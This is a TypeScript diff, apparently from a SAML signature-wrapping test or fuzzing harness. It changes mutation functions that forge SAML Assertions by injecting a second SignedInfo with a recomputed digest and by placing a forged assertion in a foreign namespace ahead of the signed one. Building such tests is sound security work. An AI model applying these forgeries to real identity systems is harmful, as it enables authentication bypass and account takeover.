@@ -10,7 +10,7 @@ import type { Document, Element, Node } from '@xmldom/xmldom';
 import { ExclusiveCanonicalization } from 'xml-crypto';
 import type { DomMutation, MutationContext } from '../types.js';
 import { DSIG_NS, SAML_NS, all, one, remove, rootOf, signatureOf } from './dom.js';
-import { EVIL_ASSERTION_ID, forgedAssertion, insertExtensions } from './xsw.js';
+import { EVIL_ASSERTION_ID, forgedId, forgedAssertion, insertExtensions } from './xsw.js';
 
 /** TAIL (attacks.md §0): the attacker's own IdP account is `${victim}.evil.test`. */
 export const TAIL = '.evil.test';
@@ -192,11 +192,11 @@ export function secondSignedInfo(placement: 'sibling' | 'wrapped'): DomMutation 
     const assertion = one(doc, 'Assertion');
     const signature = signatureOf(assertion);
     if (!signature) throw new Error('the Assertion is not signed');
-    const forged = forgedAssertion(assertion, ctx, EVIL_ASSERTION_ID);
+    const forged = forgedAssertion(assertion, ctx, forgedId(EVIL_ASSERTION_ID, ctx));
     rootOf(doc).insertBefore(forged, assertion);
     const signedInfo = one(signature, 'SignedInfo');
     const second = signedInfo.cloneNode(true) as Element;
-    one(second, 'Reference').setAttribute('URI', `#${EVIL_ASSERTION_ID}`);
+    one(second, 'Reference').setAttribute('URI', `#${forgedId(EVIL_ASSERTION_ID, ctx)}`);
     const value = one(second, 'DigestValue');
     while (value.firstChild) value.removeChild(value.firstChild);
     value.appendChild(doc.createTextNode(digestOf(forged)));
@@ -219,7 +219,7 @@ export function foreignNamespaceDecoy(): DomMutation {
   return dom('forged Assertion rebound to a foreign namespace before the signed one', (doc, ctx) => {
     const assertion = one(doc, 'Assertion');
     if (assertion.namespaceURI !== SAML_NS) throw new Error('first(Assertion) is not a SAML Assertion');
-    const forged = forgedAssertion(assertion, ctx, EVIL_ASSERTION_ID);
+    const forged = forgedAssertion(assertion, ctx, forgedId(EVIL_ASSERTION_ID, ctx));
     rootOf(doc).insertBefore(rebind(doc, forged, SAML_NS, FOREIGN_NS), assertion);
   });
 }
